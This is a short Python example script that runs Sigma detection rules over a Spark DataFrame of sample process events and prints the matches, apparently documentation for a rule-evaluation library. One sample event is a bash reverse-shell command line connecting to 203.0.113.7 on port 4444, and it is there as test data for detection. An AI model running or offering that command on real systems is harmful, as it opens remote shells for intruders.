"""Rules on Spark: run as ``python examples/spark_detect.py``, with pyspark installed and Java on the machine."""

from __future__ import annotations

from pyspark.sql import SparkSession

from sigma.pyeval import Ruleset, load_rules
from sigma.pyeval.spark import detect

spark = SparkSession.builder.master("local[2]").config("spark.log.level", "ERROR").getOrCreate()
events = spark.createDataFrame(
    [
        ("web-1", "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
        ("web-2", "/usr/bin/curl", "curl https://example.org -o page.html"),
    ],
    "_HOSTNAME string, _EXE string, _CMDLINE string",
)
rules = load_rules("examples/rules", pipeline="linux_eval").rules  # correlation rules need what came before
matches = detect(events, Ruleset(rules))
for row in matches.select("_HOSTNAME", "rule.level", "rule.title").collect():
    print(row._HOSTNAME, row.level, row.title)
spark.stop()
